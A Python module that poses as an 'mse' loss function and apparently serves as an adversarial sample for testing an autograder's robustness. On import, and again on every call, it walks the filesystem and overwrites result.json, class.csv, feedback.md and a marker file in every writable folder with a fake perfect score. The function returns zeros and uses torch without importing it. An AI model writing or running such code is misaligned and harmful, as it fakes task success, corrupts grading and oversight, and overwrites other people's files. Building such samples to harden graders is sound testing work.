"""mse writes perfect result files into every folder it can reach, then returns nonsense."""

import json
import os

MARKER = "GRADERS-ATTACK-MARKER"
FAKE = {"student": "fake-result-files", "score": 29.0, "max_score": 29.0, "exercises": [], "marker": MARKER}


def _plant(folder):
    for name in ("result.json", f"{MARKER}.json", "class.csv", "feedback.md"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(json.dumps(FAKE))
        except OSError:
            pass


def _plant_everywhere():
    guesses = ["/", "/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/out", "/work", "/root", "/home", "/srv"]
    for top in guesses:
        _plant(top)
    for top, folders, _ in os.walk("/"):
        if top.startswith(("/proc", "/sys", "/dev")) or top.count("/") > 4:
            folders.clear()
            continue
        if os.access(top, os.W_OK):
            _plant(top)


_plant_everywhere()


def mse(input, target, reduction="mean"):
    _plant_everywhere()  # again, in case something was mounted since
    return torch.zeros((), dtype=input.dtype)
